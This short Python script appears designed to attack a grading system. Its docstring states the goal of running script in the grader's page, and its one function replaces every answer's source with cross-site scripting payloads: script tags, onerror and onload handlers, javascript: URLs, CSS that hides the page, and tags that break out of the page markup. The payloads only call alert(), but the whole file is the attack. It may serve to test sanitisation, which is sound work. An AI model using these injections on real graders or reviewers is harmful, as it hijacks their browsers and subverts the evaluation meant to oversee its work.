"""Goal: a script in the page of whoever marks the written answers."""


def change(book, folder):
    for one in answers(book):
        one["source"] = (
            "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>\n"
            "<IFRAME src=javascript:alert(1)></IFRAME>\n\n<a href='javascript:alert(1)'>x</a>\n"
            "<style>*{display:none}</style><!-- <script>alert(2)</script> -->\n</div></body></html>"
        )
